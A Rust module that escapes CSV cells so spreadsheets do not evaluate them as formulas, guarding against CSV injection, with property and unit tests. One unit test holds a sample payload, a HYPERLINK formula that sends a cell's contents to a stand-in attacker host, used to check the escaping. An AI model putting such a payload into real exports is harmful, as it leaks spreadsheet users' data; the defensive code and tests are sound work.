//! Every CSV Batline writes goes through here, so that no cell can run as a
//! formula when a spreadsheet opens the file (OWASP, "CSV Injection").
//!
//! Text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is
//! prefixed with a single quote `'`, which spreadsheets show as text and do
//! not evaluate; the rest of the cell is kept as it was, so a reader can
//! still see what was typed. The rule applies to text cells only (a topic, a
//! name, a district): numbers Batline computes stay numbers, a negative one
//! included. [`rows`] tells them apart by their serialised type, not by
//! their look, so `-3` typed as a topic is text (and neutralised) while a
//! computed `-3.0` is a number (and kept).

use std::borrow::Cow;

use serde::Serialize;
use serde_json::Value;

use crate::error::Error;

/// The first characters that make a spreadsheet read a cell as a formula
/// (tab and carriage return because some strip them and read what follows).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as it may be written: prefixed with `'` when it would start a
/// formula, otherwise unchanged.
pub fn text_cell(text: &str) -> Cow<'_, str> {
    match text.starts_with(FORMULA_STARTS) {
        true => Cow::Owned(format!("'{text}")),
        false => Cow::Borrowed(text),
    }
}

/// `rows` as CSV with `columns` as header (also when there are none), each
/// row's fields looked up by column name: text through [`text_cell`],
/// numbers and booleans as serde writes them, `None` as an empty cell.
pub fn rows<T: Serialize>(columns: &[&str], rows: &[T]) -> Result<Vec<u8>, Error> {
    let csv_error = |e: &dyn std::fmt::Display| Error::Invalid(format!("CSV: {e}"));
    let mut writer = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
    writer.write_record(columns).map_err(|e| csv_error(&e))?;
    for row in rows {
        let value = serde_json::to_value(row).map_err(|e| csv_error(&e))?;
        let record = columns
            .iter()
            .map(|column| match value.get(column) {
                None | Some(Value::Null) => Ok(Cow::Borrowed("")),
                Some(Value::String(text)) => Ok(text_cell(text)),
                Some(Value::Number(n)) => Ok(Cow::Owned(n.to_string())),
                Some(Value::Bool(b)) => Ok(Cow::Owned(b.to_string())),
                Some(other) => Err(csv_error(&format!("{column} is not a cell: {other}"))),
            })
            .collect::<Result<Vec<_>, Error>>()?;
        writer.write_record(record.iter().map(|cell| cell.as_ref())).map_err(|e| csv_error(&e))?;
    }
    writer.into_inner().map_err(|e| csv_error(&e.into_error()))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[derive(Serialize)]
    struct Row {
        group: String,
        cases: i64,
        change: f64,
        p50: Option<f64>,
    }

    /// What a spreadsheet would evaluate: a cell starting a formula.
    fn starts_formula(cell: &str) -> bool {
        cell.starts_with(FORMULA_STARTS)
    }

    proptest! {
        /// Whatever text comes in, no written text cell starts a formula,
        /// and dropping the quote gives the text back.
        #[test]
        fn no_text_cell_starts_a_formula(
            start in prop::sample::select(vec!["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " ", ""]),
            rest in ".*",
        ) {
            let text = format!("{start}{rest}");
            let cell = text_cell(&text);
            prop_assert!(!starts_formula(&cell), "{cell:?}");
            prop_assert_eq!(cell.strip_prefix('\'').filter(|_| starts_formula(&text)).unwrap_or(cell.as_ref()), text.as_str());
        }

        /// Through a whole file: the group reads back neutralised, the
        /// computed numbers (negative ones too) read back as the same numbers.
        #[test]
        fn text_is_neutralised_and_numbers_stay_numbers(
            group in "[=+\\-@\t\ra-z0-9\"',]{0,12}",
            cases in any::<i64>(),
            change in -1.0e9f64..1.0e9,
        ) {
            let row = Row { group: group.clone(), cases, change, p50: None };
            let body = rows(&["group", "cases", "change", "p50"], &[row]).map_err(|e| TestCaseError::fail(e.to_string()))?;
            let mut reader = csv::Reader::from_reader(body.as_slice());
            let record = reader.records().next().and_then(Result::ok).ok_or_else(|| TestCaseError::fail("no row"))?;
            let written = text_cell(&group);
            prop_assert_eq!(&record[0], written.as_ref());
            prop_assert!(!starts_formula(&record[0]));
            prop_assert_eq!(record[1].parse::<i64>().ok(), Some(cases));
            prop_assert_eq!(record[2].parse::<f64>().ok(), Some(change));
            prop_assert_eq!(&record[3], "");
        }
    }

    #[test]
    fn the_probes_payloads_are_quoted_and_plain_text_is_not() {
        assert_eq!(
            text_cell("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
        );
        assert_eq!(text_cell("+1+cmd"), "'+1+cmd");
        assert_eq!(text_cell("Kallio"), "Kallio");
        assert_eq!(text_cell("2026-W43"), "2026-W43");
    }

    #[test]
    fn numbers_are_written_as_the_csv_crate_writes_them() {
        let row = Row { group: "Kallio".into(), cases: -3, change: 2.0, p50: Some(0.25) };
        let mut plain = csv::Writer::from_writer(Vec::new());
        assert!(plain.serialize(&row).is_ok());
        let plain = plain.into_inner().unwrap_or_default();
        assert_eq!(rows(&["group", "cases", "change", "p50"], &[row]).ok(), Some(plain));
    }
}
